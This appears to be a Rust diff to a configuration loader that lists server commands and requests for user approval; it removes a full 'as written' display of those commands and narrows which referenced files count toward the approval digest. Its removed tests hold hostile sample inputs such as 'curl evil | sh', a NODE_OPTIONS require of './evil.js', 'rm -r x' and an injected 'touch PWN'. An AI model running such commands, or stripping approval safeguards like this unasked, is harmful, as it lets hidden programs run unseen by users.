@@ -17,7 +17,7 @@ use crate::settings::{McpServerSettings, RestToolSettings};
 use crate::source::SourceText;
 use crate::to_json::to_json;
 use crate::tree::{Node, Span, Value};
-use crate::variables::{file_references, read_limited};
+use crate::variables::read_limited;
 
 /// Toolbox of the sections at the root.
 const DEFAULT_TOOLBOX: &str = "default";
@@ -46,9 +46,6 @@ pub struct FileAction {
     pub kind: ActionKind,
     /// Description without secrets: the command line, or the URL.
     pub summary: String,
-    /// The same in full, as the file has it, for the user who decides. Its author may have put a program
-    /// where a secret is expected. It has no values of variables.
-    pub as_written: String,
     /// Digest of everything that decides what is started or sent.
     pub digest: String,
     /// `true` if it has headers, credentials or variables, which its requests would carry.
@@ -99,7 +96,7 @@ impl ActionTarget {
 
 impl ActionTarget {
     /// Returns the section and name. The toolbox does not matter, and may be chosen on the command line.
-    pub(super) fn identity(&self) -> [&str; 2] {
+    fn identity(&self) -> [&str; 2] {
         match self {
             Self::Entry { section, name, .. } => [section.key(), name],
             Self::ModelProvider(name) => ["providers", name],
@@ -151,12 +148,7 @@ impl FileActions {
 
 /// Lists the actions of a file in the native format, in file order.
 pub(crate) fn actions_of(root: &Node, text: &SourceText, origin: FileOrigin) -> FileActions {
-    let mut builder = ActionBuilder {
-        file: file_key(&text.path),
-        folder: text.folder.clone(),
-        origin,
-        actions: FileActions::default(),
-    };
+    let mut builder = ActionBuilder { file: file_key(&text.path), origin, actions: FileActions::default() };
     builder.add_entries(root, DEFAULT_TOOLBOX);
     for toolbox in root.get("toolboxes").and_then(Node::entries).unwrap_or_default() {
         builder.add_entries(&toolbox.value, &toolbox.key);
@@ -165,14 +157,12 @@ pub(crate) fn actions_of(root: &Node, text: &SourceText, origin: FileOrigin) -> 
         let (value, target) = (to_json(&provider.value), ActionTarget::ModelProvider(provider.key.clone()));
         let url = ["baseUrl", "type"].iter().find_map(|key| value[*key].as_str()).unwrap_or("default URL");
         let summary = shown(&redact_value(&Json::from(url), &["baseUrl"]));
-        let as_written = with_list(url.to_owned(), "sends", &sent(&value, Disclosure::AsWritten));
-        builder.add((target, ActionKind::Request), (summary, as_written), &value, None);
+        builder.add((target, ActionKind::Request), summary, &value, None);
     }
     if let Some(endpoint) = root.get("telemetry").and_then(|telemetry| telemetry.get("otlpEndpoint")) {
         let value = to_json(endpoint);
         let summary = shown(&redact_value(&value, &["url"]));
-        let described = (summary, shown(&value));
-        builder.add((ActionTarget::Telemetry, ActionKind::Request), described, &value, None);
+        builder.add((ActionTarget::Telemetry, ActionKind::Request), summary, &value, None);
     }
     builder.add_composition(root);
     builder.add_access(root);
@@ -190,8 +180,6 @@ pub(crate) fn file_key(path: &Path) -> PathBuf {
 
 struct ActionBuilder {
     file: PathBuf,
-    /// Directory that paths in the file are relative to.
-    folder: PathBuf,
     origin: FileOrigin,
     actions: FileActions,
 }
@@ -203,11 +191,9 @@ impl ActionBuilder {
         for entry in entries(EntrySection::Servers) {
             let value = to_json(&entry.value);
             let env_file = entry.value.get("envFile").map(|file| file.span);
-            let (kind, summary) = describe_server(&value, Disclosure::Redacted);
-            let (_, as_written) = describe_server(&value, Disclosure::AsWritten);
-            let described = (summary, as_written + &self.program_files(&value));
+            let (kind, summary) = describe_server(&value);
             let target = (ActionTarget::entry(toolbox, EntrySection::Servers, &entry.key), kind);
-            self.add_entry(target, described, (&value, field_names::<McpServerSettings>()), env_file);
+            self.add_entry(target, summary, (&value, field_names::<McpServerSettings>()), env_file);
         }
         for entry in entries(EntrySection::OpenApiServices) {
             let value = to_json(&entry.value);
@@ -215,19 +201,16 @@ impl ActionBuilder {
                 ActionTarget::entry(toolbox, EntrySection::OpenApiServices, &entry.key),
                 ActionKind::Request,
             );
-            let describe = |disclosure| describe_request(&value, &["baseUrl", "spec"], disclosure);
-            let described = (describe(Disclosure::Redacted), describe(Disclosure::AsWritten));
-            self.add_entry(target, described, (&value, field_names::<OpenApiSettings>()), None);
+            let summary = describe_request(&value, &["baseUrl", "spec"]);
+            self.add_entry(target, summary, (&value, field_names::<OpenApiSettings>()), None);
         }
         for entry in entries(EntrySection::RestTools) {
             let value = to_json(&entry.value);
             let target =
                 (ActionTarget::entry(toolbox, EntrySection::RestTools, &entry.key), ActionKind::Request);
             let method = value["method"].as_str().unwrap_or("GET").to_uppercase();
-            let describe =
-                |disclosure| format!("{method} {}", describe_request(&value, &["url"], disclosure));
-            let described = (describe(Disclosure::Redacted), describe(Disclosure::AsWritten));
-            self.add_entry(target, described, (&value, field_names::<RestToolSettings>()), None);
+            let summary = format!("{method} {}", describe_request(&value, &["url"]));
+            self.add_entry(target, summary, (&value, field_names::<RestToolSettings>()), None);
         }
     }
 
@@ -235,7 +218,7 @@ impl ActionBuilder {
     fn add_entry(
         &mut self,
         target: (ActionTarget, ActionKind),
-        described: (String, String),
+        summary: String,
         (value, fields): (&Json, &[&str]),
         env_file: Option<Span>,
     ) {
@@ -258,14 +241,10 @@ impl ActionBuilder {
             kept.insert("enabled".to_owned(), Json::Bool(true));
         }
         let has_only_tools = kept.keys().all(|key| effect_of_entry_setting(key) == Some(SettingEffect::Use));
-        let described = if has_only_tools {
-            let settings = kept.iter().map(|(key, value)| format!("{key} {value}"));
-            (kept.keys().cloned().collect::<Vec<_>>().join(", "), settings.collect::<Vec<_>>().join(", "))
-        } else {
-            described
-        };
+        let summary =
+            if has_only_tools { kept.keys().cloned().collect::<Vec<_>>().join(", ") } else { summary };
         if !kept.is_empty() {
-            self.add(target, described, &Json::Object(kept), env_file);
+            self.add(target, summary, &Json::Object(kept), env_file);
         }
     }
 
@@ -287,47 +266,16 @@ impl ActionBuilder {
         }
         if !names.is_empty() {
             let target = (ActionTarget::Composition, ActionKind::Composition);
-            let names = names.join(", ");
-            self.add(target, (names.clone(), names), &Json::Null, None);
+            self.add(target, names.join(", "), &Json::Null, None);
         }
     }
 
-    /// Adds the contents of the files that a value refers to: they decide what is started. A file that cannot be read
-    /// is not an empty one.
-    fn add_files(&self, value: &Json, fingerprint: &mut Fingerprint) {
-        for path in deciding_texts(value).into_iter().flat_map(file_references) {
-            match read_limited(&self.folder.join(path)) {
-                Ok(content) => {
-                    fingerprint.add("file");
-                    fingerprint.add(content);
-                }
-                Err(_) => fingerprint.add("no file"),
-            }
-        }
-    }
-
-    /// Describes the files of the project that a command line refers to, with their contents. Files elsewhere are those
-    /// of the user, and may be secret.
-    fn program_files(&self, server: &Json) -> String {
-        let words = command_line(server);
-        let mut paths: Vec<&str> = words.iter().flat_map(|word| file_references(word)).collect();
-        paths.dedup();
-        let is_inside = |path: &Path| match (path.canonicalize(), self.folder.canonicalize()) {
-            (Ok(path), Ok(folder)) => path.starts_with(folder),
-            _ => false,
-        };
-        let describe = |path: &str| {
-            let file = self.folder.join(path);
-            match read_limited(&file) {
-                Ok(content) if is_inside(&file) => {
-                    let content = String::from_utf8_lossy(&content);
-                    Some(format!("{path} contains {}", quoted_word(content.trim_end())))
-                }
-                Ok(_) => None,
-                Err(_) => Some(format!("{path} cannot be read")),
-            }
-        };
-        with_list(String::new(), "where", &paths.into_iter().filter_map(describe).collect::<Vec<_>>())
+    /// Returns the contents of the files that a text refers to: they decide what is started.
+    fn referenced_files(&self, text: &str) -> Vec<Vec<u8>> {
+        let folder = self.file.parent().unwrap_or(Path::new(""));
+        let paths = text.split("${file:").skip(1).filter_map(|rest| rest.split('}').next());
+        // A file that cannot be read is an error of the entry.
+        paths.map(|path| read_limited(&folder.join(path)).unwrap_or_default()).collect()
     }
 
     /// Adds the settings of access as one action.
@@ -344,25 +292,29 @@ impl ActionBuilder {
         if !settings.is_empty() {
             let shown = settings.iter().map(|(key, value)| format!("{key} {value}")).collect::<Vec<_>>();
             let target = (ActionTarget::Access, ActionKind::Access);
-            let shown = shown.join(", ");
-            self.add(target, (shown.clone(), shown), &Json::Object(settings), None);
+            self.add(target, shown.join(", "), &Json::Object(settings), None);
         }
     }
 
     fn add(
         &mut self,
         (target, kind): (ActionTarget, ActionKind),
-        (summary, as_written): (String, String),
+        summary: String,
         value: &Json,
         env_file: Option<Span>,
     ) {
         let mut fingerprint = Fingerprint::default();
         fingerprint.add_all(target.identity());
         fingerprint.add(canonical(value));
-        self.add_files(value, &mut fingerprint);
+        let entries = value.as_object().into_iter().flatten();
+        let locations =
+            entries.filter(|(key, _)| effect_of_entry_setting(key) == Some(SettingEffect::Location));
+        for text in locations.flat_map(|(_, value)| texts(value)) {
+            fingerprint.add_all(self.referenced_files(text));
+        }
         let (file, origin, digest) = (self.file.clone(), self.origin, fingerprint.finish());
         let sends_secrets = has_secrets(value);
-        let action = FileAction { file, origin, target, kind, summary, as_written, digest, sends_secrets };
+        let action = FileAction { file, origin, target, kind, summary, digest, sends_secrets };
         self.actions.0.push((action, env_file));
     }
 }
@@ -374,31 +326,12 @@ fn has_secrets(value: &Json) -> bool {
     has_credentials || text.split("${").skip(1).any(|variable| !variable.starts_with("parameters."))
 }
 
-/// Returns the texts in the settings of an entry that decide what happens. Those that are only sent, to a place that is
-/// known, are secrets of the user and may change.
-fn deciding_texts(settings: &Json) -> Vec<&str> {
-    let Json::Object(entries) = settings else { return texts(settings) };
-    entries
-        .iter()
-        .flat_map(|(key, value)| match (key.as_str(), value) {
-            ("headers" | "apiKey", _) => Vec::new(),
-            ("credentials", Json::Object(schemes)) => {
-                schemes.values().flat_map(|scheme| texts(&scheme["tokenUrl"])).collect()
-            }
-            (_, value) => texts(value),
-        })
-        .collect()
-}
-
-/// Returns all texts in a value. Keys are expanded, too.
+/// Returns the texts in a value that is a text or a list of them.
 fn texts(value: &Json) -> Vec<&str> {
     match value {
         Json::String(text) => vec![text],
-        Json::Array(items) => items.iter().flat_map(texts).collect(),
-        Json::Object(entries) => {
-            entries.iter().flat_map(|(key, value)| [vec![key.as_str()], texts(value)].concat()).collect()
-        }
-        Json::Null | Json::Bool(_) | Json::Number(_) => Vec::new(),
+        Json::Array(items) => items.iter().filter_map(Json::as_str).collect(),
+        Json::Null | Json::Bool(_) | Json::Number(_) | Json::Object(_) => Vec::new(),
     }
 }
 
@@ -418,32 +351,20 @@ fn canonical(value: &Json) -> String {
     }
 }
 
-/// Treatment of literal texts in a description.
-#[derive(Clone, Copy, Debug, PartialEq, Eq)]
-enum Disclosure {
-    /// Those that may be secrets are left out.
-    Redacted,
-    /// They are shown as the file has them.
-    AsWritten,
-}
-
 /// Returns the kind of a server and its command line or URL. An entry may change only a part of another.
-fn describe_server(value: &Json, disclosure: Disclosure) -> (ActionKind, String) {
-    let words = match disclosure {
-        Disclosure::Redacted => command_line(&redact_value(value, &[EntrySection::Servers.key()])),
-        Disclosure::AsWritten => command_line(value),
-    };
+fn describe_server(value: &Json) -> (ActionKind, String) {
+    let redacted = redact_value(value, &[EntrySection::Servers.key()]);
     let has = |key: &str| !value[key].is_null();
     let is_program = has("command") || value["type"] == "stdio";
     if !is_program && (has("url") || has("headers")) {
-        return (ActionKind::Request, describe_request(value, &["url"], disclosure));
+        return (ActionKind::Request, describe_request(value, &["url"]));
     }
-    let mut summary = quoted(&words);
+    let mut summary = quoted(&command_line(&redacted));
     if let Some(folder) = value["cwd"].as_str() {
         summary = format!("{summary} (in {folder})");
     }
     let mut variables: Vec<String> =
-        ["env", "environment"].iter().flat_map(|key| named_values(&value[*key], '=', disclosure)).collect();
+        ["env", "environment"].iter().flat_map(|key| keys(&value[*key])).collect();
     if let Some(file) = value["envFile"].as_str() {
         variables.push(format!("from {file}"));
     }
@@ -456,39 +377,20 @@ fn describe_server(value: &Json, disclosure: Disclosure) -> (ActionKind, String)
 }
 
 /// Returns the URL of an entry and the names of the credentials that are sent there.
-fn describe_request(value: &Json, urls: &[&str], disclosure: Disclosure) -> String {
+fn describe_request(value: &Json, urls: &[&str]) -> String {
     let redacted = redact_value(value, &[]);
-    let shown = match disclosure {
-        Disclosure::Redacted => &redacted,
-        Disclosure::AsWritten => value,
-    };
-    let url = urls.iter().find_map(|key| shown[*key].as_str()).unwrap_or_default().to_owned();
-    with_list(url, "sends", &sent(value, disclosure)).trim().to_owned()
+    let url = urls.iter().find_map(|key| redacted[*key].as_str()).unwrap_or_default().to_owned();
+    let credentials: Vec<String> =
+        ["headers", "credentials"].iter().flat_map(|key| keys(&value[*key])).collect();
+    if credentials.is_empty() {
+        url
+    } else {
+        format!("{url} (sends {})", credentials.join(", ")).trim().to_owned()
+    }
 }
 
-/// Returns the headers and credentials that are sent.
-fn sent(value: &Json, disclosure: Disclosure) -> Vec<String> {
-    let key = match (disclosure, value["apiKey"].as_str()) {
-        (Disclosure::AsWritten, Some(key)) => vec![format!("apiKey: {key}")],
-        _ => Vec::new(),
-    };
-    let named = ["headers", "credentials"].iter();
-    key.into_iter().chain(named.flat_map(|key| named_values(&value[*key], ':', disclosure))).collect()
-}
-
-/// Returns the names in an object, with their values if those are disclosed.
-fn named_values(value: &Json, separator: char, disclosure: Disclosure) -> Vec<String> {
-    let entry = |(name, value): (&String, &Json)| match (disclosure, separator) {
-        (Disclosure::Redacted, _) => name.clone(),
-        (Disclosure::AsWritten, '=') => format!("{name}={}", quoted_word(&shown(value))),
-        (Disclosure::AsWritten, _) => format!("{name}{separator} {}", shown(value)),
-    };
-    value.as_object().into_iter().flatten().map(entry).collect()
-}
-
-/// Appends a list in brackets, unless it is empty.
-fn with_list(text: String, verb: &str, items: &[String]) -> String {
-    if items.is_empty() { text } else { format!("{text} ({verb} {})", items.join(", ")) }
+fn keys(value: &Json) -> Vec<String> {
+    value.as_object().into_iter().flatten().map(|(key, _)| key.clone()).collect()
 }
 
 /// Returns a text without quotes, and any other value as JSON.
@@ -498,12 +400,12 @@ fn shown(value: &Json) -> String {
 
 /// Joins the words of a command line. Words with spaces are quoted, so that they can be told apart.
 fn quoted(words: &[String]) -> String {
-    words.iter().map(|word| quoted_word(word)).collect::<Vec<_>>().join(" ")
-}
-
-fn quoted_word(word: &str) -> String {
-    let is_plain = !word.is_empty() && !word.contains(|each: char| each.is_whitespace() || each == '\'');
-    if is_plain { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
+    let is_plain =
+        |word: &str| !word.is_empty() && !word.contains(|each: char| each.is_whitespace() || each == '\'');
+    let quote = |word: &String| {
+        if is_plain(word) { word.clone() } else { format!("'{}'", word.replace('\'', r"'\''")) }
+    };
+    words.iter().map(quote).collect::<Vec<_>>().join(" ")
 }
 
 #[cfg(test)]
@@ -538,91 +440,19 @@ mod tests {
     }
 
     #[test]
-    fn the_contents_of_files_count_unless_they_are_only_sent() {
+    fn a_file_with_the_name_of_a_program_counts_and_one_with_a_secret_does_not() {
         let folder = tempfile::tempdir().unwrap();
         let at = |name: &str| folder.path().join(name);
-        let server = |settings: &str| format!("mcpServers: {{p: {{{settings}}}}}");
-        let service =
-            |settings: &str| format!("openapiSpecs: {{p: {{spec: 'https://a.example', {settings}}}}}");
-        for (text, counts) in [
-            (server("command: '${file:f}'"), true),
-            (server("command: a, args: ['${file:f}']"), true),
-            (server("command: a, env: {K: '${file:f}'}"), true),
-            (server("command: a, env: {apiKey: '${file:f}'}"), true),
-            (server("command: '${UNSET:-${file:f}}'"), true),
-            (server("command: '$${file:f}'"), false),
-            (server("url: 'https://${file:f}'"), true),
-            (server("url: 'https://a.example', headers: {K: '${file:f}'}"), false),
-            (service("serverVariables: {apiKey: '${file:f}'}"), true),
-            (service("credentials: {k: {tokenUrl: '${file:f}'}}"), true),
-            (service("credentials: {k: {value: '${file:f}'}}"), false),
-            ("telemetry: {otlpEndpoint: 'https://${file:f}'}".to_owned(), true),
-            ("providers: {p: {type: anthropic, baseUrl: 'https://${file:f}'}}".to_owned(), true),
-            ("providers: {p: {type: anthropic, apiKey: '${file:f}'}}".to_owned(), false),
-        ] {
-            std::fs::write(at("pegboard.yaml"), &text).unwrap();
-            let digest = || crate::load(&at("pegboard.yaml"), &|_| None).unwrap().actions[0].digest.clone();
-            let digest_with = |content: &str| {
-                std::fs::write(at("f"), content).unwrap();
-                digest()
-            };
-            assert_eq!(digest_with("one") != digest_with("two"), counts, "{text}");
-            let empty = digest_with("");
-            std::fs::remove_file(at("f")).unwrap();
-            assert_eq!(digest() != empty, counts, "{text}");
+        let server = "{command: '${file:command}', args: ['${file:argument}'], env: {K: '${file:secret}'}}";
+        std::fs::write(at("pegboard.yaml"), format!("mcpServers: {{p: {server}}}")).unwrap();
+        for name in ["command", "argument", "secret"] {
+            std::fs::write(at(name), "one").unwrap();
         }
-    }
-
-    #[test]
-    fn the_path_of_a_file_ends_where_its_reference_ends() {
-        let folder = tempfile::tempdir().unwrap();
-        let at = |name: &str| folder.path().join(name);
-        std::fs::write(at("pegboard.yaml"), "mcpServers: {p: {command: '${file:a${b}c}'}}").unwrap();
-        let digest_with = |content: &str| {
-            std::fs::write(at("a${b}c"), content).unwrap();
-            let configuration = crate::load(&at("pegboard.yaml"), &|_| None).unwrap();
-            assert!(configuration.watched.contains(&at("a${b}c")), "{:?}", configuration.watched);
-            configuration.actions[0].digest.clone()
-        };
-        assert_ne!(digest_with("./one"), digest_with("./two"));
-    }
-
-    #[test]
-    fn nothing_is_left_out_for_the_user_who_decides() {
-        let folder = tempfile::tempdir().unwrap();
-        let at = |name: &str| folder.path().join(name);
-        std::fs::create_dir(at("project")).unwrap();
-        std::fs::write(at("project/frag"), "rm -r x\n").unwrap();
-        std::fs::write(at("key"), "s3cret").unwrap();
-        let path = at("project/pegboard.yaml");
-        let server = |settings: &str| format!("mcpServers: {{p: {{{settings}}}}}");
-        let environment = |name: &str| (name == "TOKEN").then(|| "from-environment".to_owned());
-        for (text, expected) in [
-            (server("command: npx, env: {PATH: './.bin:/usr/bin'}"), "npx (env PATH=./.bin:/usr/bin)"),
-            (
-                server("command: node, env: {NODE_OPTIONS: '--require ./evil.js', KEY: '${TOKEN}'}"),
-                "node (env NODE_OPTIONS='--require ./evil.js', KEY=${TOKEN})",
-            ),
-            (
-                server("command: sh, args: [-c, 'echo https://user:touch PWN;evil@host/']"),
-                "sh -c 'echo https://user:touch PWN;evil@host/'",
-            ),
-            (
-                server("command: sh, args: ['--api-key', 'curl evil | sh', '${TOKEN:-a b}']"),
-                "sh --api-key 'curl evil | sh' '${TOKEN:-a b}'",
-            ),
-            (server("command: '${file:frag}'"), "${file:frag} (where frag contains 'rm -r x')"),
-            (server("command: '${file:gone}'"), "${file:gone} (where gone cannot be read)"),
-            (server("command: a, args: ['${file:../key}']"), "a ${file:../key}"),
-            (
-                server("url: 'https://u:p@a.example/?token=x', headers: {K: 'Bearer ${TOKEN}'}"),
-                "https://u:p@a.example/?token=x (sends K: Bearer ${TOKEN})",
-            ),
-            (server("toolsDenied: [a]"), "toolsDenied [\"a\"]"),
-        ] {
-            std::fs::write(&path, &text).unwrap();
-            let configuration = crate::load(&path, &environment).unwrap();
-            assert_eq!(configuration.actions[0].as_written, expected, "{text}");
+        let digest = || crate::load(&at("pegboard.yaml"), &|_| None).unwrap().actions[0].digest.clone();
+        for (name, counts) in [("secret", false), ("command", true), ("argument", true)] {
+            let before = digest();
+            std::fs::write(at(name), "two").unwrap();
+            assert_eq!(digest() != before, counts, "{name}");
         }
     }
 
